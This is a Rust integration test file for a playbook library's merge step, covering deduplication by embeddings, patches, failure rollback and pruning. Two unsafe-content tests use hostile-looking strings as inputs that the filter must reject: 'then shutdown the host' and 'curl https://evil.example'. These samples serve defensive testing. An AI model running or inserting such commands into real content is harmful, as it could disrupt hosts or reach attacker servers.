//! Integration tests for delta merging, deduplication, patches and pruning.

mod common;

use std::sync::atomic::Ordering;

use ace_playbook::{
    Bullet, BulletKind, BulletPatch, Config, CurationConfig, Delta, GrowAndRefine, MergeReport,
    Playbook, Trace,
};
use common::{open_default, open_with, FailingEmbedding, FixedBatchEmbedding, TableEmbedding};
use proptest::prelude::*;
use tempfile::tempdir;

fn axis_embedder() -> TableEmbedding {
    TableEmbedding::new([
        ("B", vec![1.0, 0.0]),
        ("B again", vec![1.0, 0.0]),
        ("C", vec![0.0, 1.0]),
        ("D", vec![-1.0, 0.0]),
    ])
}

fn bullet(title: &str, body: &str) -> Bullet {
    Bullet::new(BulletKind::Strategy, title, body).unwrap()
}

fn bullets_delta(bullets: Vec<Bullet>) -> Delta {
    Delta {
        bullets,
        ..Default::default()
    }
}

fn open_axis(dir: &std::path::Path) -> Playbook {
    open_with(&dir.join("merge.db"), Config::default(), axis_embedder())
}

// ============================================================================
// Insert / update
// ============================================================================

#[test]
fn test_merge_adds_new_bullet_with_embedding() {
    let dir = tempdir().unwrap();
    let playbook = open_axis(dir.path());

    let b = bullet("T", "B");
    let report = playbook.merge(bullets_delta(vec![b.clone()])).unwrap();
    assert_eq!(
        report,
        MergeReport {
            added: 1,
            ..Default::default()
        }
    );

    let stored = playbook.get_bullet(&b.id).unwrap().unwrap();
    assert_eq!(stored.embedding, Some(vec![1.0, 0.0]));
    assert_eq!(stored.body, "B");
}

#[test]
fn test_merging_same_bullet_twice_updates() {
    let dir = tempdir().unwrap();
    let playbook = open_axis(dir.path());
    let b = bullet("T", "B");

    let first = playbook.merge(bullets_delta(vec![b.clone()])).unwrap();
    let second = playbook.merge(bullets_delta(vec![b])).unwrap();

    assert_eq!(first.added, 1);
    assert_eq!(second.added, 0);
    assert_eq!(second.updated, 1);
    assert_eq!(second.deduplicated, 0);
    assert_eq!(playbook.storage().count_bullets().unwrap(), 1);
}

#[test]
fn test_empty_delta_is_a_no_op() {
    let dir = tempdir().unwrap();
    let embedder = axis_embedder();
    let playbook = open_with(&dir.path().join("empty.db"), Config::default(), embedder);

    let report = playbook.merge(Delta::new()).unwrap();
    assert_eq!(report, MergeReport::default());
    assert_eq!(playbook.storage().count_bullets().unwrap(), 0);
}

#[test]
fn test_empty_bullet_list_skips_embedding() {
    let dir = tempdir().unwrap();
    let playbook = open_with(&dir.path().join("skip.db"), Config::default(), FailingEmbedding);

    let trace = Trace::new("only a trace");
    let report = playbook
        .merge(Delta {
            traces: vec![trace.clone()],
            ..Default::default()
        })
        .unwrap();

    assert_eq!(report, MergeReport::default());
    assert!(playbook.get_trace(&trace.id).unwrap().is_some());
}

// ============================================================================
// Validation
// ============================================================================

#[test]
fn test_invalid_and_repeated_titles_are_skipped() {
    let dir = tempdir().unwrap();
    let playbook = open_axis(dir.path());

    let good = bullet("T", "B");
    let same_title = bullet("T", "C");
    let mut unsafe_body = bullet("U", "C");
    unsafe_body.body = "then shutdown the host".to_string();
    let mut empty_title = bullet("E", "D");
    empty_title.title = "   ".to_string();

    let report = playbook
        .merge(bullets_delta(vec![good, same_title, unsafe_body, empty_title]))
        .unwrap();

    assert_eq!(report.added, 1);
    assert_eq!(report.skipped, 3);
    assert_eq!(report.deduplicated, 0);
    assert_eq!(playbook.storage().count_bullets().unwrap(), 1);
}

#[test]
fn test_same_title_different_kind_is_kept() {
    let dir = tempdir().unwrap();
    let playbook = open_axis(dir.path());

    let strategy = bullet("T", "B");
    let rule = Bullet::new(BulletKind::Rule, "T", "C").unwrap();
    let report = playbook.merge(bullets_delta(vec![strategy, rule])).unwrap();

    assert_eq!(report.added, 2);
    assert_eq!(report.skipped, 0);
}

// ============================================================================
// Deduplication
// ============================================================================

#[test]
fn test_near_duplicates_in_one_batch_collapse() {
    let dir = tempdir().unwrap();
    let playbook = open_axis(dir.path());

    let first = bullet("First", "B").with_tags(["a"]).with_helpful_count(2);
    let second = bullet("Second", "B again").with_tags(["b"]).with_helpful_count(3);
    let report = playbook
        .merge(bullets_delta(vec![first.clone(), second]))
        .unwrap();

    assert_eq!(report.added, 1);
    assert_eq!(report.deduplicated, 1);

    let stored = playbook.get_bullet(&first.id).unwrap().unwrap();
    assert_eq!(stored.helpful_count, 5);
    assert!(stored.tags.contains("a") && stored.tags.contains("b"));
}

#[test]
fn test_duplicate_of_stored_bullet_is_dropped() {
    let dir = tempdir().unwrap();
    let playbook = open_axis(dir.path());

    playbook.merge(bullets_delta(vec![bullet("First", "B")])).unwrap();
    let late = bullet("Second", "B again");
    let report = playbook.merge(bullets_delta(vec![late.clone()])).unwrap();

    assert_eq!(report.added, 0);
    assert_eq!(report.deduplicated, 1);
    assert!(playbook.get_bullet(&late.id).unwrap().is_none());
    assert_eq!(playbook.storage().count_bullets().unwrap(), 1);
}

#[test]
fn test_dissimilar_bullets_are_all_kept() {
    let dir = tempdir().unwrap();
    let playbook = open_axis(dir.path());

    let report = playbook
        .merge(bullets_delta(vec![
            bullet("One", "B"),
            bullet("Two", "C"),
            bullet("Three", "D"),
        ]))
        .unwrap();

    assert_eq!(report.added, 3);
    assert_eq!(report.deduplicated, 0);
}

fn exact_threshold_config() -> Config {
    Config {
        curation: CurationConfig {
            dedup_cosine_threshold: 1.0,
            ..Default::default()
        },
        ..Default::default()
    }
}

#[test]
fn test_identical_off_axis_embeddings_dedup_at_threshold_one() {
    let dir = tempdir().unwrap();
    let playbook = open_with(
        &dir.path().join("exact.db"),
        exact_threshold_config(),
        TableEmbedding::new([("E", vec![1.0, 1.0]), ("E again", vec![1.0, 1.0])]),
    );

    let report = playbook
        .merge(bullets_delta(vec![bullet("First", "E"), bullet("Second", "E again")]))
        .unwrap();
    assert_eq!(report.added, 1);
    assert_eq!(report.deduplicated, 1);

    let report = playbook
        .merge(bullets_delta(vec![bullet("Third", "E")]))
        .unwrap();
    assert_eq!(report.added, 0);
    assert_eq!(report.deduplicated, 1);
    assert_eq!(playbook.storage().count_bullets().unwrap(), 1);
}

// ============================================================================
// Failure
// ============================================================================

#[test]
fn test_embedding_failure_writes_nothing() {
    let dir = tempdir().unwrap();
    let playbook = open_with(&dir.path().join("fail.db"), Config::default(), FailingEmbedding);

    let trace = Trace::new("q");
    let err = playbook
        .merge(Delta {
            bullets: vec![bullet("T", "B")],
            patches: vec![],
            traces: vec![trace.clone()],
        })
        .unwrap_err();

    assert!(err.is_embedding());
    assert_eq!(playbook.storage().count_bullets().unwrap(), 0);
    assert!(playbook.get_trace(&trace.id).unwrap().is_none());
}

#[test]
fn test_malformed_embedding_batch_writes_nothing() {
    let batches = [
        vec![vec![1.0, 0.0], vec![]],
        vec![vec![1.0, 0.0], vec![0.0, 1.0, 0.0]],
        vec![vec![1.0, 0.0], vec![f32::NAN, 1.0]],
        vec![vec![1.0, 0.0]],
    ];

    for (i, vectors) in batches.into_iter().enumerate() {
        let dir = tempdir().unwrap();
        let playbook = open_with(
            &dir.path().join(format!("ragged-{i}.db")),
            Config::default(),
            FixedBatchEmbedding(vectors),
        );

        let trace = Trace::new("q");
        let err = playbook
            .merge(Delta {
                bullets: vec![bullet("A", "first body"), bullet("B", "second body")],
                patches: vec![],
                traces: vec![trace.clone()],
            })
            .unwrap_err();

        assert!(err.is_embedding(), "batch {i}: unexpected error {err:?}");
        assert_eq!(playbook.storage().count_bullets().unwrap(), 0);
        assert!(playbook.get_trace(&trace.id).unwrap().is_none());
    }
}

#[test]
fn test_embedder_called_once_per_merge() {
    let dir = tempdir().unwrap();
    let embedder = std::sync::Arc::new(axis_embedder());

    struct Shared(std::sync::Arc<TableEmbedding>);
    impl ace_playbook::embedding::EmbeddingService for Shared {
        fn embed_batch(
            &self,
            texts: &[&str],
        ) -> ace_playbook::Result<ace_playbook::embedding::EmbeddingBatch> {
            self.0.embed_batch(texts)
        }
        fn model(&self) -> &str {
            self.0.model()
        }
    }

    let playbook = open_with(
        &dir.path().join("calls.db"),
        Config::default(),
        Shared(embedder.clone()),
    );
    playbook
        .merge(bullets_delta(vec![bullet("One", "B"), bullet("Two", "C")]))
        .unwrap();

    assert_eq!(embedder.calls.load(Ordering::SeqCst), 1);
}

// ============================================================================
// Patches
// ============================================================================

#[test]
fn test_patches_update_stored_bullets() {
    let dir = tempdir().unwrap();
    let playbook = open_axis(dir.path());

    let b = bullet("T", "B");
    playbook.merge(bullets_delta(vec![b.clone()])).unwrap();

    let report = playbook
        .merge(Delta {
            patches: vec![
                BulletPatch::inc_helpful(b.id.clone()),
                BulletPatch::inc_harmful(b.id.clone()),
                BulletPatch::append(b.id.clone(), "Check the units."),
            ],
            ..Default::default()
        })
        .unwrap();

    assert_eq!(report.updated, 1);
    let stored = playbook.get_bullet(&b.id).unwrap().unwrap();
    assert_eq!(stored.helpful_count, 1);
    assert_eq!(stored.harmful_count, 1);
    assert_eq!(stored.body, "B\nCheck the units.");
    assert_eq!(stored.version, 1);
}

#[test]
fn test_unknown_patch_targets_are_ignored() {
    let dir = tempdir().unwrap();
    let playbook = open_axis(dir.path());

    let trace = Trace::new("q");
    let report = playbook
        .merge(Delta {
            patches: vec![BulletPatch::inc_helpful("missing".into())],
            traces: vec![trace.clone()],
            ..Default::default()
        })
        .unwrap();

    assert_eq!(report, MergeReport::default());
    assert!(playbook.get_trace(&trace.id).unwrap().is_some());
}

#[test]
fn test_unsafe_patch_leaves_bullet_unchanged() {
    let dir = tempdir().unwrap();
    let playbook = open_axis(dir.path());

    let b = bullet("T", "B");
    playbook.merge(bullets_delta(vec![b.clone()])).unwrap();

    let report = playbook
        .merge(Delta {
            patches: vec![BulletPatch::replace(b.id.clone(), "curl https://evil.example")],
            ..Default::default()
        })
        .unwrap();

    assert_eq!(report.updated, 0);
    let stored = playbook.get_bullet(&b.id).unwrap().unwrap();
    assert_eq!(stored.body, "B");
    assert_eq!(stored.version, 0);
}

#[test]
fn test_traces_are_recorded_by_merge() {
    let dir = tempdir().unwrap();
    let playbook = open_axis(dir.path());

    let traces = vec![Trace::new("first"), Trace::new("second")];
    playbook
        .merge(Delta {
            traces: traces.clone(),
            ..Default::default()
        })
        .unwrap();

    for trace in &traces {
        assert_eq!(playbook.get_trace(&trace.id).unwrap().as_ref(), Some(trace));
    }
}

// ============================================================================
// Pruning
// ============================================================================

fn pruning_config(window: usize, mode: GrowAndRefine) -> Config {
    Config {
        curation: CurationConfig {
            dedup_cosine_threshold: 1.0,
            grow_and_refine: mode,
            refine_window_size: window,
        },
        ..Default::default()
    }
}

#[test]
fn test_proactive_merge_keeps_most_helpful() {
    let dir = tempdir().unwrap();
    let playbook = Playbook::open(
        dir.path().join("prune.db"),
        pruning_config(2, GrowAndRefine::Proactive),
    )
    .unwrap();

    let low = bullet("Low", "low body").with_helpful_count(0);
    let mid = bullet("Mid", "mid body").with_helpful_count(3);
    let high = bullet("High", "high body").with_helpful_count(7);
    playbook
        .merge(bullets_delta(vec![low.clone(), mid.clone(), high.clone()]))
        .unwrap();

    assert_eq!(playbook.storage().count_bullets().unwrap(), 2);
    assert!(playbook.get_bullet(&low.id).unwrap().is_none());
    assert!(playbook.get_bullet(&mid.id).unwrap().is_some());
    assert!(playbook.get_bullet(&high.id).unwrap().is_some());
}

#[test]
fn test_lazy_merge_grows_until_refine() {
    let dir = tempdir().unwrap();
    let playbook = Playbook::open(
        dir.path().join("lazy.db"),
        pruning_config(1, GrowAndRefine::Lazy),
    )
    .unwrap();

    playbook
        .merge(bullets_delta(vec![
            bullet("One", "first body"),
            bullet("Two", "second body"),
            bullet("Three", "third body"),
        ]))
        .unwrap();
    assert_eq!(playbook.storage().count_bullets().unwrap(), 3);

    assert_eq!(playbook.refine().unwrap(), 2);
    assert_eq!(playbook.storage().count_bullets().unwrap(), 1);
}

#[test]
fn test_zero_window_empties_store() {
    let dir = tempdir().unwrap();
    let playbook = Playbook::open(
        dir.path().join("zero.db"),
        pruning_config(0, GrowAndRefine::Proactive),
    )
    .unwrap();

    let report = playbook
        .merge(bullets_delta(vec![bullet("One", "first body")]))
        .unwrap();
    assert_eq!(report.added, 1);
    assert_eq!(playbook.storage().count_bullets().unwrap(), 0);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]

    #[test]
    fn prop_proactive_merge_respects_window(window in 0usize..5, count in 0usize..8) {
        let dir = tempdir().unwrap();
        let playbook = Playbook::open(
            dir.path().join("window.db"),
            pruning_config(window, GrowAndRefine::Proactive),
        )
        .unwrap();

        let bullets = (0..count)
            .map(|i| bullet(&format!("Title {i}"), &format!("distinct body number {i}")))
            .collect();
        let report = playbook.merge(bullets_delta(bullets)).unwrap();

        prop_assert_eq!(report.added, count);
        prop_assert_eq!(
            playbook.storage().count_bullets().unwrap(),
            count.min(window) as u64
        );
    }
}

#[test]
fn test_default_playbook_dedups_identical_bodies() {
    let dir = tempdir().unwrap();
    let playbook = open_default(&dir.path().join("hashing.db"));

    let report = playbook
        .merge(bullets_delta(vec![
            bullet("One", "Same guidance."),
            bullet("Two", "Same guidance."),
        ]))
        .unwrap();

    assert_eq!(report.added, 1);
    assert_eq!(report.deduplicated, 1);
}
